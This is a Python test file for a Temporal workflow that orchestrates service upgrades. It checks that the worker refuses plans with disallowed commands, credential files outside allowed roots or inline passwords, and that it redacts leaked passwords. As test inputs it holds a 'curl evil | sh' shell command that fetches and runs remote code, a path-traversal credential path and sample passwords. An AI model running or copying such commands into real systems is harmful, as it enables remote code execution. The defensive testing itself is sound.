"""The worker decides what it trusts: a plan started through the SDK (not the CLI) with a command off
the worker's allow-list, or a credential file outside its roots, is refused by the real ``plan.admit``
before any step; nothing else ran (the stand-ins record every call, the history every activity)."""

from __future__ import annotations

import uuid
from pathlib import Path

import pytest
from temporalio.client import Client, WorkflowFailureError
from temporalio.exceptions import ApplicationError

from model import errors, io, trust
from model.plan import UpgradePlan
from tests.standins import Script
from tests.workflows.helpers import make_plan, outcome_of, running, service, service_handle, start
from workflows.service import ServiceUpgradeWorkflow

DATA_PLANE_PLAN = Path(__file__).resolve().parent.parent / "plans" / "data-plane.yaml"


def hostile(tmp_path: Path) -> list[tuple[UpgradePlan, str, str]]:
    """(plan, the field the refusal must name, a word of the refusal) — each valid for the CLI."""
    keystone = service("keystone")
    checks = [{"kind": "upgrade-status", "command": ["/bin/sh", "-c", "curl evil | sh"]}]
    outside = tmp_path / "root" / ".." / "my.cnf"  # resolved: tmp_path/my.cnf, outside the root
    outside.parent.mkdir(parents=True, exist_ok=True)
    outside.resolve().write_text("[client]\nuser=x\n")
    return [
        (make_plan([{**keystone, "checks": checks}]), "services[0].checks[0].command", "'/bin/sh'"),
        (
            make_plan([{**keystone, "database": {"name": "keystone", "defaults_file": str(outside)}}]),
            "services[0].database.defaults_file",
            "credential roots",
        ),
    ]


async def test_a_plan_the_worker_does_not_allow_is_refused_before_any_step(
    client: Client, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(trust.CREDENTIAL_ROOTS_ENV, str(tmp_path / "root"))
    monkeypatch.delenv(trust.ALLOWED_COMMANDS_ENV, raising=False)
    for plan, field, why in hostile(tmp_path):
        script = Script()
        async with running(client, script) as tq:
            handle = await start(client, plan, tq)
            with pytest.raises(WorkflowFailureError):
                await handle.result()
            kind, report = await outcome_of(handle)
            history = [e async for e in handle.fetch_history_events()]
        assert kind == errors.UPGRADE_FAILED
        assert "nothing was changed" in report.message and field in report.message and why in report.message
        assert "fix:" in report.message
        # no step ran: the stand-ins saw no call, the ledger was not read, no service started
        assert script.calls == [] and script.ledger_calls == [] and report.services == []
        scheduled = [
            e.activity_task_scheduled_event_attributes.activity_type.name
            for e in history
            if e.HasField("activity_task_scheduled_event_attributes")
        ]
        assert scheduled == [io.PLAN_ADMIT]
        failed = [e for e in history if e.HasField("activity_task_failed_event_attributes")]
        (failure,) = [e.activity_task_failed_event_attributes.failure for e in failed]
        assert failure.application_failure_info.type == errors.PLAN_INVALID
        assert failure.application_failure_info.non_retryable
        (admit,) = report.preflight[:1]
        assert admit.status == "failed" and field in admit.detail


async def test_the_allow_list_and_the_roots_admit_what_the_worker_is_configured_for(
    client: Client, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same plans, with the worker configured for them, run (the allow-list is a pattern; the
    root is the directory the file resolves into)."""
    monkeypatch.setenv(trust.CREDENTIAL_ROOTS_ENV, str(tmp_path))
    monkeypatch.setenv(trust.ALLOWED_COMMANDS_ENV, "/usr/bin/true:/bin/s?")
    plans = [plan for plan, _, _ in hostile(tmp_path)]
    assert all(trust.refusals(p) == [] for p in plans)
    script = Script()
    # a check's answer holding tool output with a password: it leaves the activity redacted
    leak = "Db5ecretPassw0rd"
    script.answers[f"{io.CHECKS_RUN}:upgrade-status:pre"] = io.CheckResult(
        status="pass", message=f"ok; connection=mysql+pymysql://keystone:{leak}@db/keystone"
    )
    async with running(client, script) as tq:
        handle = await start(client, plans[1], tq)
        kind, report = await outcome_of(handle)
        child = service_handle(client, plans[1], "keystone")
        stored = [
            p
            async for e in child.fetch_history_events()
            if e.HasField("activity_task_completed_event_attributes")
            for p in e.activity_task_completed_event_attributes.result.payloads
        ]
        codec = client.data_converter.payload_codec  # the suite runs encrypted (tests/conftest.py)
        results = [p.data.decode() for p in (await codec.decode(stored) if codec else stored)]
    assert kind == "succeeded", report.message
    assert "db.snapshot" in script.calls
    (check,) = [r for r in results if "connection=" in r]
    assert leak not in check and "keystone:***@db" in check


def test_the_cli_validator_runs_on_the_worker_too() -> None:
    """A plan model built without the CLI (an inline secret the loader refuses) is refused by the
    worker's re-validation, naming the field."""
    from activities.admission import admit

    plan = make_plan()
    bad = plan.model_copy(
        update={
            "services": [
                plan.services[0].model_copy(
                    update={
                        "migration": plan.services[0].migration.model_copy(
                            update={"command": ["keystone-manage", "--password=hunter2"]}
                        )
                    }
                )
            ]
        }
    )
    with pytest.raises(ApplicationError) as refused:
        admit(io.AdmitInput(plan=bad))
    assert refused.value.type == errors.PLAN_INVALID and refused.value.non_retryable
    assert "services[0].migration.command" in refused.value.message and "inline password" in refused.value.message


async def test_a_service_workflow_started_on_its_own_is_admitted_too(
    client: Client, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Skipping the Upgrade workflow does not skip the admission: a service workflow started directly
    (no parent) re-validates its plan first, and a refused one ends failed with no step run."""
    monkeypatch.delenv(trust.ALLOWED_COMMANDS_ENV, raising=False)
    plan, field, _ = hostile(tmp_path)[0]
    script = Script()
    async with running(client, script) as tq:
        result = await client.execute_workflow(
            ServiceUpgradeWorkflow.run,
            io.ServiceUpgradeInput(plan=plan, service="keystone", upgrade_id=plan.workflow_id),
            id=io.service_workflow_id(plan.workflow_id, "keystone"),
            task_queue=tq,
        )
    assert result.outcome == "failed" and field in result.message and "nothing was changed" in result.message
    assert script.calls == [] and result.steps == []


async def test_a_data_plane_batch_started_on_its_own_is_admitted_too(client: Client) -> None:
    """The data plane's batch workflow takes the whole plan too: started on its own, it admits it
    first, and a refused one touches no node."""
    from model.io_dataplane import BatchInput, DataPlaneNode
    from model.loading import load_plan
    from workflows.dataplane import DataPlaneBatchWorkflow

    plan = load_plan(DATA_PLANE_PLAN)
    (i, nova) = next((i, s) for i, s in enumerate(plan.services) if s.data_plane is not None)
    hostile_nova = nova.model_copy(
        update={"migration": nova.migration.model_copy(update={"command": ["/bin/sh", "-c", "id"]})}
    )
    services = [*plan.services[:i], hostile_nova, *plan.services[i + 1 :]]
    plan = plan.model_copy(update={"services": services})
    script = Script()
    async with running(client, script) as tq:
        result = await client.execute_workflow(
            DataPlaneBatchWorkflow.run,
            BatchInput(
                plan=plan, service=nova.name, upgrade_id=plan.workflow_id, index=1, nodes=[DataPlaneNode(node="c1")]
            ),
            id=f"{plan.workflow_id}/batch-{uuid.uuid4().hex[:6]}",
            task_queue=tq,
        )
    assert result.refused and f"services[{i}].migration.command" in result.refused, result.refused
    assert script.calls == [] and [n.outcome for n in result.nodes] == ["skipped"]
